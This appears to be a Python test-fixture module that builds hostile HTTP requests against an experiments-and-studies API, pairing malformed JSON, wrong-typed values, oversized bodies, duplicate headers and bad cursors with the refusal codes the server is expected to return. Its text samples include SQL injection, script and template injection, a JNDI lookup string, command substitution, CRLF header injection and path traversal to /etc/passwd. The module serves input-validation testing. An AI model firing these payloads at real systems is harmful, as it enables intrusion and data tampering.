"""Hostile requests: what is sent, and what it is answered. A row each, made of kinds by places.

`{experiment}`, `{study}` and `{user}` in a path stand for what the lab has. In a body `@` is the
place that a kind fills in. `tests/service/test_hostile.py` sends every row to one server.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, replace

EXPERIMENTS = "/v1/experiments"
EXPERIMENT = "/v1/experiments/{experiment}"
BULK = "/v1/experiments/bulk"
STUDIES = "/v1/studies"
STUDY = "/v1/studies/{study}"
USERS = "/v1/users"
USER = "/v1/users/{user}"
TOKENS = "/v1/tokens"
ASKING = {
    "POST": (EXPERIMENTS, BULK, STUDIES, USERS, TOKENS),
    "PATCH": (EXPERIMENT, STUDY, USER),
}
"""The routes that read a body."""
JSON = ("Content-Type", "application/json")

Headers = tuple[tuple[str, str], ...]


@dataclass(frozen=True)
class Hostile:
    """A request and its answer."""

    name: str
    method: str
    path: str
    content: bytes = b""
    headers: Headers = (JSON,)
    status: int = 422
    code: str = ""
    """Of a refusal."""
    field: str = ""
    """Of a refusal: the first field that it names; empty where it names none."""
    verbatim: tuple[str, str] = ("", "")
    """Of what is accepted: a field of the answer, and the text that it holds."""


@dataclass(frozen=True)
class Place:
    """Where a value stands in a body."""

    method: str
    path: str
    field: str
    """As a refusal names it."""
    body: str
    """JSON with `@` in place of the value, and `#` for a number that no other row has."""
    takes: str
    """Which of `WRONG` it refuses; empty where these are tried elsewhere."""

    def row(self, kind: str, text: str, status: int, code: str, *, named: bool) -> Hostile:
        """What is answered to a value there, written as JSON."""
        body = self.body.replace("#", "7").replace("@", text)
        content = body.encode("utf-8", "surrogatepass")
        name = f"{self.method} {self.path} {self.field}: {kind}"
        field = self.field if named else ""
        return Hostile(name, self.method, self.path, content, status=status, code=code, field=field)


PLACES = (
    Place("POST", EXPERIMENTS, "model.depth", '{"model": {"depth": @}}', "integer"),
    Place("POST", EXPERIMENTS, "training.weight_decay", '{"training": {"weight_decay": @}}',
          "share"),
    Place("POST", EXPERIMENTS, "chain.eigenvalues.1",
          '{"chain": {"family": "spectrum", "eigenvalues": [0.5, @]}}', "eigenvalue"),
    Place("POST", EXPERIMENTS, "label", '{"chain": {"seed": #}, "label": @}', "text"),
    Place("POST", EXPERIMENTS, "device", '{"device": @}', "word"),
    Place("POST", BULK, "experiments.1.chain.corr_len",
          '{"experiments": [{}, {"chain": {"corr_len": @}}]}', "length"),
    Place("POST", BULK, "experiments.0.tags.0", '{"experiments": [{"tags": [@]}]}', "tag"),
    Place("POST", STUDIES, "target_error", '{"target_error": @}', "error"),
    Place("POST", STUDIES, "name", '{"name": @}', "text"),
    Place("PATCH", EXPERIMENT, "priority", '{"priority": @}', "integer"),
    Place("PATCH", EXPERIMENT, "label", '{"label": @}', "text"),
    Place("PATCH", EXPERIMENT, "note", '{"note": @}', "text"),
    Place("PATCH", EXPERIMENT, "tags.0", '{"tags": [@]}', "tag"),
    Place("PATCH", STUDY, "priority", '{"priority": @}', "integer"),
    Place("PATCH", STUDY, "name", '{"name": @}', "text"),
    Place("POST", USERS, "name", '{"name": @}', "tag"),
    Place("POST", USERS, "role", '{"name": "x", "role": @}', "word"),
    Place("PATCH", USER, "disabled", '{"disabled": @}', "boolean"),
    Place("PATCH", USER, "role", '{"role": @}', "word"),
    Place("POST", TOKENS, "name", '{"name": @}', "text"),
    Place("POST", TOKENS, "expires_at", '{"name": "x", "expires_at": @}', "moment"),
    Place("POST", TOKENS, "user", '{"name": "x", "user": @}', "tag"),
)  # fmt: skip

NOT_JSON = {
    "NaN": "NaN",
    "-Infinity": "-Infinity",
    "1e400": "1e400",
    "400 digits": "9" * 400,
    "21 digits, below": "-" + "9" * 21,
    "400 digits and a fraction": "9" * 400 + ".5",
    "NUL, written": '"a\\u0000b"',
    "NUL, raw": '"a\x00b"',
    "a lone high surrogate": '"\\ud800"',
    "a lone low surrogate": '"\\udc00x"',
    "surrogates the wrong way round": '"\\udc00\\ud800"',
    "a surrogate in CESU-8": '"\ud83d"',
    "a key twice": '{"a": 1, "a": 2}',
    "3,000 lists in each other": "[" * 3000 + "]" * 3000,
    "a raw line break": '"a\nb"',
    "an escape that there is not": '"\\x41"',
}
"""What no field takes: the body is not strict JSON."""

CONFUSABLE = "\u0430dmin"
"""Its first letter is Cyrillic."""

_NO_NUMBER = {"true": "true", "text": '"1"', "a list": "[1]", "an object": "{}"}
_NO_TEXT = {"a number": "7", "true": "true", "a list": '["a"]', "an object": '{"a": "b"}'}
_NO_TAG = {
    **_NO_TEXT,
    "empty": '""',
    "a blank at the end": '"member "',
    "a line break": '"member\\n"',
    "a confusable": json.dumps(CONFUSABLE),
    "full width": '"\\uff41dmin"',
    "a zero-width joiner": '"ad\\u200dmin"',
    "50,000 letters": '"' + "m" * 50_000 + '"',
}
_NO_WORD = {**_NO_TAG, "capitals": '"ADMIN"', "two words": '"any any"'}
WRONG: Mapping[str, Mapping[str, str]] = {
    "integer": {
        **_NO_NUMBER,
        "1.0": "1.0", "1e1": "1e1", "0.5": "0.5", "null": "null",
        "2^63": str(2**63), "-2^63 - 1": str(-(2**63) - 1), "20 digits": "9" * 20,
        "a thousand": "1000", "an integer with an underscore, as text": '"1_0"',
    },
    "share": {**_NO_NUMBER, "null": "null", "1e308": "1e308", "the least below": "-5e-324",
              "2^63": str(2**63)},
    "eigenvalue": {**_NO_NUMBER, "null": "null", "a date": '"2026-01-01"',
                   "an integer of 20 digits, as text": f'"{"9" * 20}"'},
    "length": {**_NO_NUMBER, "null": "null", "-0.0": "-0.0", "the least": "5e-324",
               "1e308": "1e308", "-7": "-7", "20 digits": "9" * 20},
    "error": {**_NO_NUMBER, "-0.0": "-0.0", "1e-300": "1e-300", "the least": "5e-324",
              "1e308": "1e308", "many digits below the least": "0." + "0" * 390 + "1"},
    "text": {**_NO_TEXT, "empty": '""', "50,000 letters": json.dumps("l" * 50_000),
             "50,000 marks": json.dumps("\u0301" * 50_000, ensure_ascii=False)},
    "tag": {
        **_NO_TAG,
        "a path": '"../../etc/passwd"', "a mark-up": '"<b>"', "a quote": '"a\'b"',
        "a right-to-left override": '"a\\u202eb"', "an escape": '"\\u001b[31m"',
        "digits of another script": '"\\u0661"', "a dotless i": '"\\u0131d"',
    },
    "word": _NO_WORD,
    "boolean": {"1": "1", "0.0": "0.0", "text": '"true"', "a list": "[true]", "an object": "{}"},
    "moment": {
        "true": "true", "a number": "4102444800", "a list": "[]", "empty": '""',
        "no zone": '"2100-01-01T00:00:00"', "a date": '"2100-01-01"',
        "month 13": '"2100-13-01T00:00:00Z"', "year 10000": '"10000-01-01T00:00:00Z"',
        "an offset of 99 hours": '"2100-01-01T00:00:00+99:00"', "now": '"now"',
        "digits of another script": '"\\u0662100-01-01T00:00:00Z"',
    },
}  # fmt: skip
"""What a field takes -> values of another kind, or beyond its bounds."""

TEXTS = {
    "a statement of SQL": "'; DROP TABLE experiments; --",
    "a quote and a parameter": "%s %(name)s :name $1 \" ' ` \\",
    "a format": "{0} {label} {0.__class__} %n%n%n ${HOME} $(id) `id`",
    "mark-up": "<script>alert(1)</script><img src=x onerror=alert(1)>&amp;",
    "a path": "../../../../etc/passwd",
    "a template": "{{7*7}} {% raw %} <%= 7 %> #{7}",
    "a lookup": "${jndi:ldap://example.invalid/a}",
    "a formula": "=1+1;@SUM(A1);+1;-1",
    "an object in a text": '{"label": "x", "__proto__": {}}',
    "an entity": '<!DOCTYPE x [<!ENTITY a "b">]>&a;',
    "a header": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "colours of a terminal": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J",
    "eight-bit control": "\x9b31m\x85\x90",
    "line separators": "one\u2028two\u2029three\x0b\x0c\x85four",
    "a right-to-left override": "abc\u202edef\u202c\u2066x\u2069",
    "zero width": "a\u200b\u200c\u200d\u2060\ufeffb",
    "blanks alone": " \u00a0\u3000\t",
    "marks": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324",
    "confusables": "\u0440\u0430\u0443\u0440\u0430l \uff41\uff44\uff4d\uff49\uff4e",
    "two forms of one letter": "\u00e9 e\u0301",
    "what grows where case changes": "\u00df\u0130\ufb01\u1e9e",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f3fd \U0001f1e9\U0001f1ea",
    "the last code points": "\U0010ffff\ufffe\uffff\ufdd0",
    "a private one, a tag": "\ue000\U000e0041",
    "scripts": "\u0645\u0631\u062d\u0628\u0627 \u4f60\u597d \u0928\u092e\u0938\u094d\u0924\u0947",
    "the longest": "\U0001f9ea" * 100,
    "a word of a program": "null",
    "a number, as text": "1e400",
    "an escape of JSON": "\\u0000 \\ud800",
    "a token that is none": "Bearer rgl_x",
}
"""What is text like any other: taken and handed back as it is."""


def hostile() -> list[Hostile]:
    """Every row."""
    return [*_values(), *_texts(), *_bodies(), *_types(), *_headers(), *_names(), *_cursors()]


def _values() -> Iterator[Hostile]:
    for place in PLACES:
        for kind, text in NOT_JSON.items():
            yield place.row(kind, text, 400, "invalid_json", named=False)
        for kind, text in WRONG[place.takes].items():
            yield place.row(kind, text, 422, "invalid_spec", named=True)


def _texts() -> Iterator[Hostile]:
    for place in (one for one in PLACES if one.takes == "text"):
        for number, (kind, text) in enumerate(TEXTS.items(), start=1000):
            body = place.body.replace("#", str(number))
            content = body.replace("@", json.dumps(text, ensure_ascii=False)).encode()
            name = f"{place.method} {place.path} {place.field}: {kind}"
            row = Hostile(name, place.method, place.path, content)
            if place.path == TOKENS and any(ord(letter) < 32 for letter in text):
                yield replace(row, code="invalid_spec", field="name")
            else:
                yield replace(row, status=0, verbatim=(place.field, text))


NO_OBJECT = {
    "a list of objects": b"[{}]",
    "a list": b"[]",
    "null": b"null",
    "a text": b'"{}"',
    "a number": b"-0.0",
    "lists of lists": b"[[[]]]",
}
BROKEN = {
    "a byte order mark": b"\xef\xbb\xbf{}",
    "UTF-16": '{"label": "x"}'.encode("utf-16-le"),
    "UTF-32": "{}".encode("utf-32"),
    "cut short in a text": b'{"name": "x',
    "cut short in a number": b'{"priority": -',
    "cut short in a letter": '{"name": "\u00e9'.encode()[:-1],
    "an overlong NUL": b'{"name": "\xc0\x80"}',
    "a byte that is none": b'{"name": "\xff"}',
    "an object and more": b'{} {"name": "x"}',
    "an object and a brace": b"{}}",
    "an object and NUL": b"{}\x00",
    "a comment": b"{/* */}",
    "a comma": b'{"name": "x",}',
    "a key that is no text": b'{1: "x"}',
    "a key twice": b'{"name": "x", "name": "y"}',
    "a key twice, once escaped": b'{"name": "x", "n\\u0061me": "y"}',
    "3,000 objects in each other": b'{"a":' * 3000 + b"1" + b"}" * 3000,
    "nothing": b"",
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff\xab\xae\x05\x00C\xbf\xa6\xa3\x02\x00\x00",
    "a blank of another kind": "\u00a0{}".encode(),
}
UNKNOWN = {
    "a prototype": "__proto__",
    "a class": "__class__",
    "a constructor": "constructor",
    "nothing": "",
    "an escape": "\x1b[31m",
    "a right-to-left override": "\u202eeman",
    "a confusable": "n\u0430me",
    "a dot": "chain.corr_len",
    "blanks": " name ",
}


NO_NAME = '""'
"""What a refusal calls a field whose name is empty."""
NEEDED: dict[tuple[str, str], dict[str, object]] = {
    ("POST", BULK): {"experiments": [{}]},
    ("POST", USERS): {"name": "x"},
    ("POST", TOKENS): {"name": "x"},
}
"""What a body cannot do without."""


def _bodies() -> Iterator[Hostile]:
    for method, path in _asking():
        for kind, body in BROKEN.items():
            name = f"{method} {path}: {kind}"
            yield Hostile(name, method, path, body, status=400, code="invalid_json")
        for kind, body in NO_OBJECT.items():
            name = f"{method} {path}: {kind} for an object"
            yield Hostile(name, method, path, body, code="invalid_spec", field="body")
        for kind, field in UNKNOWN.items():
            name = f"{method} {path}: a field that is {kind}"
            body = json.dumps({**NEEDED.get((method, path), {}), field: 1}).encode()
            yield Hostile(name, method, path, body, code="invalid_spec", field=field or NO_NAME)
        long = b'{"note": "' + b"x" * 300_000 + b'"}'
        name = f"{method} {path}: a body over the limit"
        yield Hostile(name, method, path, long, status=413, code="body_too_large")
        blanks = b" " * 300_000
        name = f"{method} {path}: blanks over the limit"
        yield Hostile(name, method, path, blanks, status=413, code="body_too_large")
    for path, large, field in LARGE:
        yield Hostile(f"POST {path}: very many in {field}", "POST", path, large.encode(),
                      code="invalid_spec", field=field)  # fmt: skip


LARGE = (
    (EXPERIMENTS, '{"tags": [' + ",".join(['"a"'] * 20_000) + "]}", "tags"),
    (EXPERIMENTS, '{"seeds": [' + ",".join(map(str, range(10_000))) + "]}", "seeds"),
    (EXPERIMENTS, '{"chain": {"family": "explicit", "matrix": [' + ",".join(["[]"] * 20_000)
     + "]}}", "chain.matrix.0"),
    (STUDIES, '{"tags": [' + ",".join(['"a"'] * 20_000) + "]}", "tags"),
    (TOKENS, '{"name": [' + ",".join(["1"] * 20_000) + "]}", "name"),
)  # fmt: skip


def _asking() -> Iterator[tuple[str, str]]:
    for method, paths in ASKING.items():
        for path in paths:
            yield method, path


TYPES = {
    "none": (),
    "plain text": (("Content-Type", "text/plain"),),
    "a form": (("Content-Type", "application/x-www-form-urlencoded"),),
    "a multipart form": (("Content-Type", "multipart/form-data; boundary=x"),),
    "like JSON": (("Content-Type", "application/jsonp"),),
    "JSON and something": (("Content-Type", "application/json, text/plain"),),
    "of another charset": (("Content-Type", "application/json; charset=utf-16"),),
    "of a charset that there is not": (("Content-Type", "application/json; charset=x"),),
    "compressed": (JSON, ("Content-Encoding", "gzip")),
    "long": (("Content-Type", "a" * 5_000),),
}


def _types() -> Iterator[Hostile]:
    for method, path in _asking():
        for kind, headers in TYPES.items():
            name = f"{method} {path}: a Content-Type, {kind}"
            yield Hostile(
                name, method, path, b"{}", headers, status=415, code="unsupported_media_type"
            )
        twice = (JSON, ("Content-Type", "text/plain"))
        name = f"{method} {path}: two Content-Types"
        yield Hostile(name, method, path, b"{}", twice, 400, "invalid_request", "Content-Type")


def _headers() -> Iterator[Hostile]:
    get, none = ("GET", EXPERIMENTS), b""
    wrong: tuple[tuple[str, Headers, int, str, str], ...] = (
        ("two tokens", (("Authorization", "{bearer}"), ("Authorization", "Bearer rgl_x")),
         400, "invalid_request", "Authorization"),
        ("two tokens, the wrong one first",
         (("Authorization", "Bearer rgl_x"), ("Authorization", "{bearer}")),
         400, "invalid_request", "Authorization"),
        ("a token twice", (("Authorization", "{bearer}"), ("Authorization", "{bearer}")),
         400, "invalid_request", "Authorization"),
        ("two tokens in one header", (("Authorization", "{bearer}, Bearer rgl_x"),),
         401, "invalid_token", ""),
        ("a token of Latin-1", (("Authorization", "Bearer rgl_\xe9"),), 401, "invalid_token", ""),
        ("a token of 5,000 letters", (("Authorization", "Bearer " + "x" * 5_000),),
         401, "invalid_token", ""),
        ("a user and a password", (("Authorization", "Basic YTpi"),),
         401, "not_authenticated", ""),
        ("a token in a cookie", (("Authorization", ""), ("Cookie", "token={bearer}")),
         401, "not_authenticated", ""),
        ("another host", (("Host", "example.invalid"),), 421, "wrong_host", ""),
        ("a host that ends with ours", (("Host", "example.invalid.testserver"),),
         421, "wrong_host", ""),
        ("a host that begins with ours", (("Host", "testserver.example.invalid"),),
         421, "wrong_host", ""),
        ("ours as a user of another", (("Host", "testserver@example.invalid"),),
         421, "wrong_host", ""),
        ("ours as a port of another", (("Host", "example.invalid:testserver"),),
         421, "wrong_host", ""),
        ("another as a port of ours", (("Host", "testserver:80@example.invalid"),),
         421, "wrong_host", ""),
        ("a port that is none", (("Host", "testserver:99999x"),), 421, "wrong_host", ""),
        ("two hosts", (("Host", "testserver"), ("Host", "example.invalid")),
         400, "invalid_request", "Host"),
        ("two lengths", (("Content-Length", "0"), ("Content-Length", "5")),
         400, "invalid_request", "Content-Length"),
        ("a length and chunks", (("Content-Length", "0"), ("Transfer-Encoding", "chunked")),
         400, "invalid_request", "Content-Length"),
        ("no host", (("Host", ""),), 421, "wrong_host", ""),
        ("a host with a dot", (("Host", "testserver."),), 421, "wrong_host", ""),
        ("a contract of another kind", (("RGLab-Contract", "1; 2"),), 400, "invalid_contract", ""),
        ("two contracts", (("RGLab-Contract", "1.0"), ("RGLab-Contract", "9.0")),
         400, "invalid_contract", ""),
    )  # fmt: skip
    for kind, headers, status, code, field in wrong:
        yield Hostile(f"GET {EXPERIMENTS}: {kind}", *get, none, headers, status, code, field)
    keys = {
        "a blank": "a b", "a letter of Latin-1": "\xe9", "very long": "k" * 5_000, "empty": "",
        "a tabulator": "a\tb",
    }  # fmt: skip
    for path in (EXPERIMENTS, BULK, STUDIES):
        for kind, key in keys.items():
            name, headers = f"POST {path}: a key that is {kind}", (JSON, ("Idempotency-Key", key))
            yield Hostile(
                name, "POST", path, b"{}", headers, 422, "invalid_query", "Idempotency-Key"
            )
        twice = (JSON, ("Idempotency-Key", "a"), ("Idempotency-Key", "b"))
        name = f"POST {path}: two keys"
        yield Hostile(name, "POST", path, b"{}", twice, 400, "invalid_request", "Idempotency-Key")
    for path in (EXPERIMENT, STUDY):
        for kind, tag in {"another": '"x"', "no quotes": "x", "a weak one": 'W/"x"'}.items():
            name, headers = f"PATCH {path}: a tag, {kind}", (JSON, ("If-Match", tag))
            yield Hostile(name, "PATCH", path, b'{"priority": 1}', headers, 412, "changed")
        headers = (JSON, ("If-Match", '"' + "x" * 3_000 + '"'))
        name = f"PATCH {path}: a tag, very long"
        yield Hostile(
            name, "PATCH", path, b'{"priority": 1}', headers, 422, "invalid_query", "If-Match"
        )


NAMES = {
    "a quote": "e-%27%20OR%201=1--",
    "a path": "..%2f..%2fetc%2fpasswd",
    "NUL": "e-%00",
    "what is no UTF-8": "e-%ff%fe",
    "a lone surrogate": "e-%ed%a0%80",
    "an escape": "e-%1b%5b31m",
    "a line break": "e-%0d%0aSet-Cookie:%20a=b",
    "a right-to-left override": "e-%e2%80%ae",
    "a wildcard": "e-%25",
    "a blank": "%20",
    "very long": "e" * 6_000,
    "a number": "9" * 400,
    "full width": "%ef%bd%85-0000000000000000",
}


def _names() -> Iterator[Hostile]:
    for kind, written in NAMES.items():
        for method, path, body in (
            ("PATCH", "/v1/experiments/{}", b'{"label": "x"}'),
            ("PATCH", "/v1/studies/{}", b'{"name": "x"}'),
            ("PATCH", "/v1/users/{}", b'{"role": "reader"}'),
            ("DELETE", "/v1/tokens/{}", b""),
            ("POST", "/v1/studies/{}/retry", b""),
            ("POST", "/v1/experiments/{}/cancel", b""),
        ):
            at = path.format(written)
            name = f"{method} {path}: {kind}"
            yield Hostile(name, method, at, body, status=404, code="not_found")


def _cursors() -> Iterator[Hostile]:
    cursors = {
        "no base64": "%21%21", "of another server": "WyJ4IiwieSIsMSwieiJd", "cut short": "WyJ",
        "a number": "MQ==", "an object": "e30=", "very deep": "W1tbW1tbW10=",
        "NaN": "W05hTl0=", "no UTF-8": "__79", "a statement": "JyBPUiAxPTE=", "padding": "====",
        "a date and a quote": "MjAyNi0wMS0wMVQwMDowMDowMCswMDowMHwn",
        "a date far away": "OTk5OS0xMi0zMVQyMzo1OTo1OS0yMzo1OXx4", "empty": "",
    }  # fmt: skip
    for kind, name in {"study": "s-0123456789abcdef", "entry": "1"}.items():
        ours = base64.urlsafe_b64encode(f"2026-01-01T00:00:00+00:00|{name}".encode()).decode()
        otherwise = base64.urlsafe_b64encode(f"2026-01-01 00:00Z|{name}".encode()).decode()
        cursors[f"of a {kind}, with a letter that is none"] = f"{ours[:8]}%21{ours[8:]}"
        cursors[f"of a {kind}, its date written otherwise"] = otherwise
    for path in (EXPERIMENTS, STUDIES, "/v1/audit"):
        for kind, cursor in cursors.items():
            name = f"GET {path}: a cursor, {kind}"
            yield Hostile(
                name, "GET", f"{path}?cursor={cursor}", headers=(), code="invalid_query",
                field="cursor",
            )  # fmt: skip
